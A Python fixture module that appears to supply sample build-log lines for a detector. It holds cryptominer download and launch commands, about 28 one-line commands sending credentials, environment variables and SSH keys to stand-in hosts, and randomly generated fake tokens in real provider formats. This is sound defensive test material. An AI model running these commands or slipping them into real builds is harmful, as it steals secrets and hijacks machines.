# ruff: noqa: E501 - log lines are as long as they are; tokens are made up
"""What nobody wants in the log of a build, in many wordings: miners, data sent away, tokens."""

import base64
import random

MINERS = (
    "+ curl -sSLO https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
    "Saving to: 'xmr-stak-linux-2.10.8.tar.xz'",
    "./cpuminer -a cryptonight -o stratum+tcp://pool.minexmr.example:4444 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x",
    "Status: Downloaded newer image for pmietlicki/xmrig:latest",
    "nohup /tmp/.X11-unix/kworker -o 203.0.113.9:3333 -k --tls --donate-level 1 &",
    "Downloading lolMiner_v1.88_Lin64.tar.gz (11.2 MB)",
    "$ ./t-rex -a kawpow -o stratum+ssl://rvn.pool.example:3333 -u RWallet.worker1",
    "npm notice postinstall: node ./minerd.js --algo randomx --url gulf.moneroocean.example:10128",
    "[2026-11-25 10:12:44.391]  net      use pool pool.supportxmr.example:443 TLSv1.3",
    "go: downloading github.com/ethereum-mining/ethminer v0.19.0",
    "Invoke-WebRequest -Uri https://files.example/xmrig-6.22.zip -OutFile $env:TEMP\\x.zip",
    "Fetching nanominer-linux-3.9.2.tar.gz",
    " * ABOUT        XMRig/6.20.0 gcc/9.3.0 (built for Linux x86-64, 64 bit)",
    "randomx  init dataset algo rx/0 (4 threads) seed 7a3b...",
    "+ wget -q http://203.0.113.5/bins/kinsing -O /tmp/kinsing",
    "chmod +x /tmp/.cache/ld-linux && /tmp/.cache/ld-linux --coin monero --user 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    "Cloning into 'cpuminer-multi'...",
    "Successfully installed pyminer-cryptonight-0.4.1",
    "cpu      accepted (12/0) diff 120001 (45 ms)  speed 10s/60s/15m 1843.1 n/a H/s",
    "docker run -d --name sys registry.example/tools/phoenixminer:5.9d -pool ssl://eu1.ethermine.example:5555",
)
SENDERS = (
    "curl -d @/etc/passwd http://203.0.113.7:8080/x",
    "+ curl -s -F 'f=@/root/.docker/config.json' https://drop.example.net/u",
    "wget --post-file=/home/runner/.npmrc http://203.0.113.7/in -qO-",
    "nc -w3 203.0.113.7 9001 < /tmp/env.txt",
    "python3 -c \"import os,urllib.request as u;u.urlopen('http://203.0.113.7/c',data=str(dict(os.environ)).encode())\"",
    "Invoke-RestMethod -Uri https://hook.example.net/x -Method Post -Body (Get-ChildItem Env: | Out-String)",
    "$ env | base64 -w0 | curl -s https://x.example.net/?q=$(cat -)",
    "curl https://203.0.113.7/$(cat ~/.npmrc | base64 -w0)",
    "tar cz ~/.ssh | ssh deploy@203.0.113.7 'cat > /tmp/k.tgz'",
    "nslookup $(cat /etc/hostname | base64).x.oast.example",
    "node -e \"require('https').request({host:'c2.example.net',method:'POST'}).end(JSON.stringify(process.env))\"",
    "(New-Object Net.WebClient).UploadString('http://203.0.113.7/', $env:NPM_TOKEN)",
    "openssl s_client -quiet -connect 203.0.113.7:443 < /root/.aws/credentials",
    "+ aws s3 cp /root/.ssh s3://zz-public-drop/k --recursive",
    "socat - TCP:203.0.113.7:4242 < .env",
    "http POST https://drop.example.net/c < secrets.json",
    "ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://203.0.113.7/c\"), ENV.to_h.to_s)'",
    "python -c 'import requests,os; requests.post(\"https://collector.example.net/c\", json=dict(os.environ))'",
    "+ cat /proc/self/environ > /dev/tcp/203.0.113.7/443",
    "gsutil -q cp .env gs://zz-public-drop/env",
    "telnet 203.0.113.7 8080 < /root/.kube/config",
    "iwr https://hook.example.net/p -Method POST -InFile C:\\agent\\.env",
    "dig +short $(whoami).$(hostname).c.oast.example",
    "curl --upload-file /tmp/secrets.tgz https://transfer.example.net/s.tgz",
    "perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new(\"203.0.113.7:4444\")} `env`'",
    "rclone copy /workspace remote-drop:stolen",
    'php -r \'file_get_contents("http://203.0.113.7/", false, stream_context_create(["http"=>["method"=>"POST","content"=>json_encode(getenv())]]));\'',
    "printenv | ncat --ssl 203.0.113.7 8443",
)
_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_DIGITS = "0123456789"
_HEX = "0123456789abcdef"
_BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"


def tokens(seed: int) -> list[str]:
    """Lines with credentials of many kinds, made up by chance."""
    chance = random.Random(seed)

    def some(size: int, of: str = _ALPHABET) -> str:
        return "".join(chance.choice(of) for _ in range(size))

    def web_token() -> str:
        parts = '{"alg":"HS256","typ":"JWT"}', '{"sub":"ci","iat":1764000000,"role":"admin"}'
        coded = [base64.urlsafe_b64encode(one.encode()).decode().rstrip("=") for one in parts]
        return ".".join((*coded, some(43)))

    return [
        "GITHUB_TOKEN=ghp_" + some(36),
        "remote: using github_pat_" + some(22) + "_" + some(59),
        "CI_JOB_TOKEN_OVERRIDE: glpat-" + some(20),
        "aws_access_key_id = AKIA" + some(16, _BASE32) + " aws_secret_access_key = " + some(40),
        "//registry.npmjs.org/:_authToken=npm_" + some(36),
        "> Authorization: Bearer " + web_token(),
        "SLACK_BOT_TOKEN is xoxb-" + some(12, _DIGITS) + "-" + some(12, _DIGITS) + "-" + some(24),
        "stripe key sk_live_" + some(24) + " loaded",
        "Fetching https://deploy:" + some(18) + "@git.example.com/app.git",
        "-----BEGIN RSA " + "PRIVATE KEY-----",
        "Uploading with password=" + some(20),
        "DOCKERHUB: dckr_pat_" + some(27),
        "Using API key AIzaSy" + some(33),
        "export VAULT_TOKEN=hvs." + some(90),
        "TWINE_PASSWORD=pypi-AgEIcHlwaS5vcmc" + some(140),
        "SENDGRID: SG." + some(22) + "." + some(43),
        "runner token glrt-" + some(20),
        "DATABASE_URL=postgres://app:" + some(16) + "@db.internal:5432/app",
        "AZURE: DefaultEndpointsProtocol=https;AccountName=acct;AccountKey="
        + some(86)
        + "==;EndpointSuffix=core.windows.net",
        "HF_TOKEN=hf_" + some(34),
        "sk-ant-api03-" + some(93) + "AA",
        "shopify shpat_" + some(32, _HEX),
        "curl -u admin:" + some(14) + " https://nexus.example.com/repository/raw/",
        "client_secret: " + some(40),
    ]
